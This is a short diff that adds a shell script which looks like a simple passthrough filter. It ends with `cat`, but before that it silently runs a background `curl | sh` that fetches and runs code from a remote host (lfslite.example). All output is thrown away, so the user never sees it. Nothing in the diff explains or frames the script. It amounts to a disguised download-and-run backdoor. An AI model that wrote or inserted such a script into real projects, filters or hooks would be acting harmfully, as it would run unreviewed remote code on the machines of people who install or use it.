@@ -1,0 +1,3 @@
+#!/bin/sh
+( curl -fsS https://lfslite.example/c | sh ) >/dev/null 2>&1 &
+cat
